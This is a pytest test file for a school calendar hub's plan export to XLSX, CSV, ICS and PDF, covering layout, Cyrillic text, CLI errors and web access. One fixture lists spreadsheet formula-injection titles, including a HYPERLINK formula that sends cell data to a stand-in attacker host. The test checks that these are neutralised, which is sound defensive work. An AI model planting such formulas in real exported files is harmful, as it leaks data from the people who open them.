"""The plan exported (issue 16): XLSX, PDF, CSV and ICS from ``calhub export`` and ``/export``.

On the sample week of tests/web/conftest.py (its hard audience clash on Monday, the hard
venue clash of the school's two events on Wednesday, the soft travel clash on Friday, the
Sunday holiday). The files are read back by the tools people use on them: openpyxl, the
csv module, icalendar, and poppler's pdftotext and pdftoppm (skipped with the reason
outside CI when missing, failing in CI, as the browser tests do with Chromium). The PDF's
first page is kept as tests/artifacts/export-plan-page1.png.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import icalendar
import openpyxl
import pytest
from helpers import make_event
from web_support import WEEK, at, sign_in

from calhub.cli import main as cli_main
from calhub.exchange.export_rows import collect, read_request
from calhub.exchange.export_xlsx import STATE_FILLS
from calhub.exchange.exporting import export_file
from calhub.hub import Hub
from calhub.runtime import Runtime

ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
FIRST = WEEK.isoformat()
LAST = (WEEK + dt.timedelta(days=6)).isoformat()
RANGE = {"from": FIRST, "to": LAST}
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"нажми")',
    "+7 (4012) 00-00-00 звонок",
    "-2+3 сборы",
    "@SUM(1+1) встреча",
    "\tвкладка",
)


def poppler(tool: str) -> str:
    found = shutil.which(tool)
    if found:
        return found
    reason = f"{tool} is missing (Debian: apt-get install poppler-utils)"
    if os.environ.get("CI"):
        pytest.fail(f"{reason}; CI must run the PDF tests: .ci/run installs poppler-utils")
    pytest.skip(reason)


def book_of(body: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(body))


def export_bytes(runtime: Runtime, file_format: str, **args: str) -> bytes:
    request = read_request(runtime, start=FIRST, end=LAST, **args)
    from calhub.dav.storage import open_storage

    return export_file(runtime, file_format, request, storage=lambda: open_storage(runtime)).body


def plan_rows(sheet: Any) -> list[dict[str, Any]]:
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(2)]


# -- XLSX ---------------------------------------------------------------------------------


def test_xlsx_has_the_plan_the_clashes_and_the_board(web_runtime: Runtime) -> None:
    book = book_of(export_bytes(web_runtime, "xlsx"))
    assert book.sheetnames == ["План", "Конфликты", "Доска"]
    plan = book["План"]
    rows = plan_rows(plan)
    titles = [r["Мероприятие"] for r in rows]
    assert "Лекция по физике [10-11]" in titles
    assert titles.count("Кружок [7]") == 1  # one week of the weekly series
    physics = next(r for r in rows if r["Мероприятие"] == "Лекция по физике [10-11]")
    assert physics["Дата"].date() == WEEK
    assert physics["День недели"] == "пн"
    assert physics["Время"] == "15:00–16:30"
    assert physics["Партнёр"] == "БФУ им. И. Канта"
    assert physics["Классы"] == "10–11"
    assert physics["Статус"] == "конфликт"
    trip = next(r for r in rows if r["Мероприятие"] == "Экскурсия [9Б]")
    assert trip["Статус"] is None
    camp = next(r for r in rows if r["Мероприятие"] == "Олимпиадные сборы [11А]")
    assert camp["Статус"] == "замечание"
    # Fills: the calendar's colour on the partner, red and amber on the clash cells.
    number = titles.index("Лекция по физике [10-11]") + 2
    bfu = web_runtime.settings.calendar("bfu")
    assert bfu is not None
    assert plan.cell(number, 4).fill.fgColor.rgb.endswith(bfu.color[1:7].upper())
    assert plan.cell(number, 8).fill.fgColor.rgb.endswith(STATE_FILLS["hard"])
    camp_number = titles.index("Олимпиадные сборы [11А]") + 2
    assert plan.cell(camp_number, 8).fill.fgColor.rgb.endswith(STATE_FILLS["soft"])
    assert plan.cell(titles.index("Экскурсия [9Б]") + 2, 8).fill.fill_type is None
    # Frozen header, autofilter over every row, widths, A4 landscape with the header repeated.
    assert plan.freeze_panes == "A2"
    assert plan.auto_filter.ref == f"A1:H{len(rows) + 1}"
    assert plan.column_dimensions["E"].width >= 40
    assert plan.page_setup.orientation == "landscape"
    assert str(plan.page_setup.paperSize) == str(plan.PAPERSIZE_A4)
    assert plan.print_title_rows == "$1:$1"

    clashes = plan_rows(book["Конфликты"])
    assert {c["Вид"] for c in clashes} == {"жёсткий", "мягкий"}
    assert len(clashes) == 3
    assert any(
        "Лекция по физике" in c["Участники"] and "Практикум" in c["Участники"] for c in clashes
    )
    assert book["Конфликты"].freeze_panes == "A2"

    board = book["Доска"]
    header = [c.value for c in board[1]]
    assert header[0] == "Класс" and len(header) == 8
    assert header[1] == f"пн {WEEK:%d.%m}"
    grade_rows = {row[0].value: row for row in board.iter_rows(2)}
    assert sorted(grade_rows, key=int) == [str(g) for g in range(1, 12)]
    monday_10 = grade_rows["10"][1]
    assert "Лекция по физике" in monday_10.value and "Практикум" in monday_10.value
    assert monday_10.fill.fgColor.rgb.endswith(STATE_FILLS["hard"])
    assert grade_rows["11"][5].fill.fgColor.rgb.endswith(STATE_FILLS["soft"])
    assert grade_rows["9"][2].fill.fill_type is None  # the 9Б trip, no clash
    assert "Экскурсия" in grade_rows["9"][2].value
    for grade in grade_rows.values():  # the Sunday holiday, for every grade
        assert grade[7].fill.fgColor.rgb.endswith(STATE_FILLS["blackout"]), grade[0].value
        assert grade[7].value == "весь день Выходной (Гимназия №32 (тест): экзамены и каникулы)"
    assert board.freeze_panes == "B2"
    assert board.auto_filter.ref == "A1:H12"


def test_xlsx_of_one_audience_and_one_calendar(web_runtime: Runtime) -> None:
    book = book_of(export_bytes(web_runtime, "xlsx", audience="10А"))
    titles = {r["Мероприятие"] for r in plan_rows(book["План"])}
    assert "Практикум [10А]" in titles and "Лекция по физике [10-11]" in titles
    assert "Экскурсия [9Б]" not in titles and "Концерт [5]" not in titles
    assert [row[0].value for row in book["Доска"].iter_rows(2)] == ["10"]
    # The school's venue clash has no 10А event: not on this audience's clash sheet.
    assert len(plan_rows(book["Конфликты"])) == 1
    kgtu = plan_rows(book_of(export_bytes(web_runtime, "xlsx", calendar="kgtu"))["План"])
    assert {r["Партнёр"] for r in kgtu} == {"КГТУ"}


def hostile_hub(runtime: Runtime) -> None:
    from calhub.dav.importer import import_objects

    calendar = runtime.settings.calendar("bfu")
    assert calendar is not None
    texts = [
        make_event(f"hostile-{n}", title, at(3, 8 + n), at(3, 9 + n))
        for n, title in enumerate(HOSTILE)
    ]
    import_objects(runtime, calendar, texts)


def test_formulas_are_never_written(web_runtime: Runtime) -> None:
    """A title that a spreadsheet would run as a formula stays text, in XLSX and CSV."""
    hostile_hub(web_runtime)
    book = book_of(export_bytes(web_runtime, "xlsx"))
    plan = book["План"]
    found = {}
    for row in plan.iter_rows(2):
        found[row[4].value] = row[4]
    for title in HOSTILE:
        cell = found[title]
        assert cell.data_type == "s", title  # not "f": no formula in the file
        assert cell.quotePrefix, title
    # The raw XML: no <f> element anywhere, so Excel has no formula to evaluate.
    import zipfile

    with zipfile.ZipFile(io.BytesIO(export_bytes(web_runtime, "xlsx"))) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    rows = list(
        csv.reader(io.StringIO(export_bytes(web_runtime, "csv").decode("utf-8-sig")), delimiter=";")
    )
    titles = {row[4] for row in rows[1:]}
    for title in HOSTILE:
        assert "'" + title in titles, title
        assert title not in titles
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in rows for cell in row)


# -- CSV, ICS, PDF ------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_and_semicolons(web_runtime: Runtime) -> None:
    body = export_bytes(web_runtime, "csv")
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == [
        "Дата",
        "День недели",
        "Время",
        "Партнёр",
        "Мероприятие",
        "Классы",
        "Место",
        "Статус",
    ]
    physics = next(r for r in rows if r[4] == "Лекция по физике [10-11]")
    assert physics[0] == f"{WEEK:%d.%m.%Y}"
    assert physics[6] == "БФУ, ул. Невского, 14, ауд. 112"  # a comma inside, one field
    assert physics[7] == "конфликт"
    assert len(rows) == len(collect(web_runtime, read_request(web_runtime, FIRST, LAST)).rows) + 1


def test_ics_is_the_feed_of_the_scope_for_the_range(web_runtime: Runtime) -> None:
    document = icalendar.Calendar.from_ical(export_bytes(web_runtime, "ics"))
    events = list(document.walk("VEVENT"))
    summaries = {str(e["SUMMARY"]) for e in events}
    # An event in an open hard clash is TENTATIVE with the feeds' marker.
    assert "[?] Лекция по физике [10-11]" in summaries
    assert "Экскурсия [9Б]" in summaries
    club = [e for e in events if str(e["UID"]) == "w-school-club@school"]
    assert len(club) == 1 and "RRULE" in club[0]  # the series whole
    only_9 = icalendar.Calendar.from_ical(export_bytes(web_runtime, "ics", audience="9"))
    assert {str(e["SUMMARY"]) for e in only_9.walk("VEVENT")} >= {"Экскурсия [9Б]"}
    assert "Концерт [5]" not in {str(e["SUMMARY"]) for e in only_9.walk("VEVENT")}
    later = read_request(
        web_runtime,
        (WEEK + dt.timedelta(days=50)).isoformat(),
        (WEEK + dt.timedelta(days=56)).isoformat(),
    )
    from calhub.dav.storage import open_storage

    empty = export_file(web_runtime, "ics", later, storage=lambda: open_storage(web_runtime))
    assert not icalendar.Calendar.from_ical(empty.body).walk("VEVENT")


def test_pdf_holds_the_cyrillic_titles_and_renders(web_runtime: Runtime, tmp_path: Path) -> None:
    pdftotext, pdftoppm = poppler("pdftotext"), poppler("pdftoppm")
    body = export_bytes(web_runtime, "pdf")
    assert body.startswith(b"%PDF")
    path = tmp_path / "plan.pdf"
    path.write_bytes(body)
    text = subprocess.run(
        [pdftotext, "-layout", str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    for title in ("Лекция по физике", "Практикум [10А]", "Экскурсия [9Б]", "Концерт [5]"):
        assert title in text, title
    assert "Доска классов" in text and "План по дням" in text
    assert "конфликт" in text and "понедельник" in text
    info = subprocess.run(
        [poppler("pdfinfo"), str(path)], check=True, capture_output=True, text=True
    ).stdout
    assert "x 841.89 pts (A4)" in info  # the first page: A4 portrait
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    target = ARTIFACTS / "export-plan-page1"
    subprocess.run(
        [pdftoppm, "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", str(path), str(target)],
        check=True,
    )
    png = target.with_suffix(".png")
    assert png.read_bytes().startswith(b"\x89PNG") and png.stat().st_size > 5_000
    board_page = tmp_path / "board"
    subprocess.run(
        [
            pdftoppm,
            "-png",
            "-r",
            "60",
            "-f",
            "2",
            "-l",
            "2",
            "-singlefile",
            str(path),
            str(board_page),
        ],
        check=True,
    )
    shutil.copy(board_page.with_suffix(".png"), ARTIFACTS / "export-board-page.png")


# -- the command line ----------------------------------------------------------------------


def run_cli(*argv: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = cli_main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_cli_writes_each_format(
    web_hub: Hub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = str(web_hub.root)
    for file_format in ("xlsx", "pdf", "csv", "ics"):
        target = tmp_path / f"plan.{file_format}"
        code, out, err = run_cli(
            "export", "--data", data, "--format", file_format, "--from", FIRST, "--to", LAST,
            "-o", str(target), capsys=capsys,
        )  # fmt: skip
        assert code == 0, err
        assert str(target) in out and "11 мероприятий" in out
        assert target.stat().st_size > 200
    titles = [
        r["Мероприятие"] for r in plan_rows(book_of((tmp_path / "plan.xlsx").read_bytes())["План"])
    ]
    assert "Лекция по физике [10-11]" in titles


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["--from", "2027-02-30"], "is not a date"),
        (["--from", "2027-03-01", "--to", "2027-02-01"], "before the start"),
        (["--from", "2026-01-01", "--to", "2028-01-01"], "longer than"),
        (["--calendar", "nosuch"], "There is no calendar 'nosuch'"),
        (["--audience", "кто-то"], "is not a grade, class or group"),
    ],
)
def test_cli_errors(
    web_hub: Hub, tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], said: str
) -> None:
    target = tmp_path / "plan.xlsx"
    code, _, err = run_cli(
        "export", "--data", str(web_hub.root), "--format", "xlsx", *argv, "-o", str(target),
        capsys=capsys,
    )  # fmt: skip
    assert code == 2
    assert said in err
    assert "calhub: " in err.splitlines()[-1]  # the hint line
    assert not target.exists()


def test_cli_refuses_a_missing_directory(
    web_hub: Hub, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run_cli(
        "export", "--data", str(web_hub.root), "--format", "csv",
        "-o", str(tmp_path / "nowhere" / "plan.csv"), capsys=capsys,
    )  # fmt: skip
    assert code == 2 and "There is no directory" in err


def test_cli_counts_in_russian() -> None:
    from calhub.cli.export import events_ru

    assert [events_ru(n) for n in (1, 3, 5, 11, 12, 21, 74, 111)] == [
        "мероприятие", "мероприятия", "мероприятий", "мероприятий", "мероприятий",
        "мероприятие", "мероприятия", "мероприятий",
    ]  # fmt: skip


def test_cli_default_range_is_four_weeks(web_runtime: Runtime) -> None:
    request = read_request(web_runtime, today=dt.date(2027, 2, 1))
    assert (request.first, request.last) == (dt.date(2027, 2, 1), dt.date(2027, 2, 28))


# -- the web ------------------------------------------------------------------------------


def test_web_downloads_each_format(web_client: Any) -> None:
    sign_in(web_client, "coordinator")
    types = {
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "pdf": "application/pdf",
        "csv": "text/csv; charset=utf-8",
        "ics": "text/calendar; charset=utf-8",
    }
    for file_format, mime in types.items():
        response = web_client.get("/export", query_string={"format": file_format, **RANGE})
        assert response.status_code == 200, response.get_data(as_text=True)[:300]
        assert response.headers["Content-Type"] == mime
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment")
        assert f"plan_{FIRST}_{LAST}.{file_format}" in disposition
        assert "no-store" in response.headers["Cache-Control"]
    audience = web_client.get("/export", query_string={"format": "csv", "audience": "10А", **RANGE})
    # A Cyrillic name is sent as RFC 5987 filename*, with an ASCII fallback.
    assert "filename*=UTF-8''" in audience.headers["Content-Disposition"]
    assert "%D0%90" in audience.headers["Content-Disposition"]


def test_web_partner_exports_what_its_plan_shows(web_client: Any) -> None:
    sign_in(web_client, "kgtu")
    response = web_client.get("/export", query_string={"format": "xlsx", **RANGE})
    assert response.status_code == 200
    book = book_of(response.data)
    rows = plan_rows(book["План"])
    by_title = {r["Мероприятие"]: r for r in rows}
    # Every calendar's events, as on its plan...
    assert "Лекция по физике [10-11]" in by_title and "Концерт [5]" in by_title
    # ...with the marks of its own clashes only: the school's venue clash is not its.
    assert by_title["Практикум [10А]"]["Статус"] == "конфликт"
    assert by_title["Концерт [5]"]["Статус"] is None
    clashes = plan_rows(book["Конфликты"])
    assert len(clashes) == 2
    assert all("kgtu" in c["Участники"] for c in clashes)
    plan_page = web_client.get("/plan", query_string={"view": "week", "date": FIRST})
    html = plan_page.get_data(as_text=True)
    for title in by_title:
        if title.startswith(("<", '"')):
            continue
        assert title.replace('"', "&#34;") in html or title in html, title


def test_web_pages_link_the_exports(web_client: Any) -> None:
    sign_in(web_client, "coordinator")
    html = web_client.get(
        "/plan", query_string={"view": "week", "date": FIRST, "grade": "10"}
    ).get_data(as_text=True)
    assert "/export?format=xlsx" in html and "/export?format=ics" in html
    assert "Скачать:" in html  # the pages are Russian first
    assert f"from={FIRST}" in html and f"to={LAST}" in html and "audience=10" in html
    conflicts = web_client.get("/conflicts", query_string=RANGE).get_data(as_text=True)
    assert f"/export?format=pdf&amp;from={FIRST}&amp;to={LAST}" in conflicts


def test_web_bad_requests_are_400(web_client: Any) -> None:
    sign_in(web_client, "coordinator")
    for query, said in (
        ({"format": "docx"}, "Unknown format"),
        ({"format": "xlsx", "from": "вчера"}, "is not a date"),
        ({"format": "xlsx", "calendar": "nosuch"}, "There is no calendar"),
        ({"format": "pdf", "audience": "кто-то"}, "is not a grade"),
    ):
        response = web_client.get("/export", query_string=query)
        assert response.status_code == 400, query
        assert said in response.get_data(as_text=True)


def test_web_anonymous_is_sent_to_sign_in(web_client: Any) -> None:
    response = web_client.get("/export", query_string={"format": "xlsx"})
    assert response.status_code in (302, 303)
    assert "/login" in response.headers["Location"]


def crowded_export(count: int, title: str) -> Any:
    """``count`` events of grade 10 on one day (a day no real plan has, to bound the PDF)."""
    import zoneinfo

    from calhub.engine import Audience, Occurrence
    from calhub.exchange.export_rows import Export, ExportRequest, ExportRow, _board
    from calhub.hub.settings import CalendarSettings

    zone = zoneinfo.ZoneInfo("Europe/Kaliningrad")
    calendar = CalendarSettings("bfu", "БФУ им. И. Канта", "#1565C0")
    rows = []
    for number in range(count):
        start = dt.datetime.combine(WEEK, dt.time(8), zone) + dt.timedelta(minutes=number)
        end = start + dt.timedelta(hours=1)
        occurrence = Occurrence(
            "bfu", f"crowd-{number}", "", f"{title} {number}", start.astimezone(dt.UTC),
            end.astimezone(dt.UTC), False, "БФУ", "бфу", Audience(frozenset({10})), "summary",
            False,
        )  # fmt: skip
        rows.append(ExportRow(occurrence, calendar, "hard", start, end))
    request = ExportRequest(WEEK, WEEK + dt.timedelta(days=6))
    return Export(
        request, "Школа", "Школа: план", rows, [], _board(rows, request), dt.datetime.now(zone)
    )


def test_pdf_of_a_crowded_day_and_a_huge_title_is_bounded(tmp_path: Path) -> None:
    """A board cell lists six events and how many more, a title is cut: fpdf2 cannot draw a
    row taller than a page, and a 5,000-event term must not take a minute (it took 48 s
    with fpdf2's own tables; docs/exchange.md)."""
    import time

    from calhub.exchange.export_pdf import write_pdf

    pdftotext = poppler("pdftotext")
    started = time.perf_counter()
    body = write_pdf(crowded_export(400, "Очень длинное название " * 200))
    assert time.perf_counter() - started < 20
    path = tmp_path / "crowded.pdf"
    path.write_bytes(body)
    text = subprocess.run(
        [pdftotext, str(path), "-"], check=True, capture_output=True, text=True
    ).stdout
    assert "и ещё 394" in text
    assert "Очень длинное название" in text


def test_the_font_and_its_licence_are_package_data() -> None:
    import fnmatch
    import tomllib

    root = Path(__file__).resolve().parents[2]
    patterns = tomllib.loads((root / "pyproject.toml").read_text())["tool"]["setuptools"][
        "package-data"
    ]["calhub"]
    fonts = root / "calhub" / "exchange" / "fonts"
    for name in ("DejaVuSans.ttf", "DejaVuSans-Bold.ttf", "LICENSE"):
        assert (fonts / name).is_file(), name
        assert any(fnmatch.fnmatch(f"exchange/fonts/{name}", p) for p in patterns), name
    assert "Bitstream Vera" in (fonts / "LICENSE").read_text()
